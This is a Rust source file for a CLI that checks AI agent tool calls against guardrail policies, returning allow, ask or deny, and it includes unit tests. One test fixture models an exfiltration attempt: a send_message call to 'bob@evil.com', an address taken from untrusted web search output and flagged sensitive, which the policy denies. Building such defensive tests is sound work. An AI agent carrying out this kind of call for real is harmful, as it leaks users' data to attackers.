//! `bactrian policy eval` and `bactrian policy test`.

use std::path::{Path, PathBuf};

use bactrian_policy::{run_tests, BuiltinRules, Decision, PolicySet, Verdict};
use clap::Subcommand;

#[derive(Subcommand)]
pub enum PolicyCommand {
    /// Decide on one tool call: print the verdict and every reason.
    ///
    /// Exit code: 0 allow, ask or no policy spoke; 3 deny; 2 bad input or policy.
    Eval {
        /// The input document (JSON; `-` reads standard input).
        #[arg(long, value_name = "FILE")]
        input: PathBuf,
        /// Print the decision as JSON.
        #[arg(long)]
        json: bool,
        /// Turn off the built-in rules (builtin:sensitive, builtin:readers).
        #[arg(long, conflicts_with = "builtin")]
        no_builtin: bool,
        /// How the built-in rules answer a violation: deny (the default), ask or off.
        #[arg(long, value_name = "deny|ask|off")]
        builtin: Option<BuiltinRules>,
        /// Policy files: .rego, .yaml or .yml. None: the built-in rules alone.
        #[arg(value_name = "POLICY")]
        policies: Vec<PathBuf>,
    },
    /// Run the Rego `test_*` rules and the YAML fixtures (`*_test.yaml`) under DIR.
    ///
    /// Exit code: 0 all passed; 1 a test failed or none was found; 2 a file did not load.
    Test {
        /// The directory to search (recursively).
        #[arg(value_name = "DIR")]
        dir: PathBuf,
    },
}

pub fn run(cmd: PolicyCommand) -> i32 {
    match cmd {
        PolicyCommand::Eval {
            input,
            json,
            no_builtin,
            builtin,
            policies,
        } => {
            let mode = match (no_builtin, builtin) {
                (true, _) => BuiltinRules::Off,
                (false, mode) => mode.unwrap_or_default(),
            };
            eval(&input, json, mode, &policies)
        }
        PolicyCommand::Test { dir } => test(&dir),
    }
}

/// The largest input document `policy eval` reads (a run's tool arguments are far smaller).
const MAX_INPUT_BYTES: u64 = 64 << 20;

fn read_input(path: &Path) -> Result<serde_json::Value, String> {
    let (file, name) = if path == Path::new("-") {
        (Path::new("/dev/stdin"), "standard input".to_string())
    } else {
        (path, format!("{}: cannot read", path.display()))
    };
    let bytes = bactrian_agent_config::read_capped(file, MAX_INPUT_BYTES, "an input document")
        .map_err(|e| format!("{name}: {e}"))?;
    serde_json::from_slice::<serde_json::Value>(&bytes)
        .map_err(|e| format!("{}: not a JSON input document: {e}", path.display()))
}

fn eval(input: &Path, json: bool, builtin: BuiltinRules, policies: &[PathBuf]) -> i32 {
    let doc = match read_input(input) {
        Ok(doc) => doc,
        Err(e) => {
            eprintln!("bactrian policy eval: {e}");
            return 2;
        }
    };
    let mut set = match PolicySet::load(policies) {
        Ok(set) => set,
        Err(e) => {
            eprintln!("bactrian policy eval: {e}");
            return 2;
        }
    };
    set.set_builtin(builtin);
    // The document is the author's own: show the policies' messages as written.
    set.set_redact_messages(false);
    let decision = set.decide(&doc);
    if json {
        match serde_json::to_string_pretty(&decision) {
            Ok(text) => println!("{text}"),
            Err(e) => {
                eprintln!("bactrian policy eval: {e}");
                return 2;
            }
        }
    } else {
        print_decision(&decision);
    }
    match decision.verdict {
        Some(Verdict::Deny) => 3,
        _ => 0,
    }
}

fn print_decision(decision: &Decision) {
    println!("{decision}");
    match decision.verdict {
        Some(Verdict::Ask) => println!("the call needs approval before it runs"),
        None => println!("no policy spoke about this call; the engine's default applies"),
        _ => {}
    }
}

fn test(dir: &Path) -> i32 {
    match run_tests(dir) {
        Ok(report) => {
            if report.results.is_empty() {
                eprintln!(
                    "bactrian policy test: no tests in {} (Rego test_* rules, *_test.yaml fixtures)",
                    dir.display()
                );
                return 1;
            }
            println!("{report}");
            if report.ok() {
                0
            } else {
                1
            }
        }
        Err(e) => {
            eprintln!("bactrian policy test: {e}");
            2
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn root() -> PathBuf {
        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
    }

    fn write_input(name: &str, doc: serde_json::Value) -> PathBuf {
        let path = std::env::temp_dir().join(format!(
            "bactrian-cli-policy-{}-{name}.json",
            std::process::id()
        ));
        std::fs::write(&path, doc.to_string()).unwrap();
        path
    }

    fn eval_code(input: &Path, no_builtin: bool, policies: &[&str]) -> i32 {
        run(PolicyCommand::Eval {
            input: input.to_path_buf(),
            json: true,
            no_builtin,
            builtin: None,
            policies: policies
                .iter()
                .map(|p| root().join("examples/policies").join(p))
                .collect(),
        })
    }

    fn redirect() -> serde_json::Value {
        serde_json::json!({
            "tool": "send_message",
            "args": {"to": {"value": "bob@evil.com", "trusted": false, "sensitive": true,
                            "sources": [{"kind": "tool", "name": "web_search", "call": "c1"}]}}
        })
    }

    #[test]
    fn eval_exit_codes() {
        let deny = write_input("deny", redirect());
        assert_eq!(eval_code(&deny, false, &[]), 3);
        assert_eq!(eval_code(&deny, true, &["routing.rego"]), 3);
        assert_eq!(eval_code(&deny, true, &[]), 0, "no policy spoke");
        let ask = write_input(
            "ask",
            serde_json::json!({"tool": "create_mr", "args": {
                "target_branch": {"value": "main", "trusted": true},
                "project_id": {"value": 149, "trusted": true}}}),
        );
        assert_eq!(eval_code(&ask, false, &["routing.yaml"]), 0, "ask exits 0");
    }

    #[test]
    fn eval_load_errors_exit_2() {
        let input = write_input("bad", redirect());
        assert_eq!(eval_code(&input, false, &["no-such-file.rego"]), 2);
        let not_json = write_input("notjson", serde_json::json!("x"));
        std::fs::write(&not_json, "{").unwrap();
        assert_eq!(eval_code(&not_json, false, &[]), 2);
    }

    #[test]
    fn test_runs_the_example_policies() {
        let code = run(PolicyCommand::Test {
            dir: root().join("examples/policies"),
        });
        assert_eq!(code, 0);
    }
}
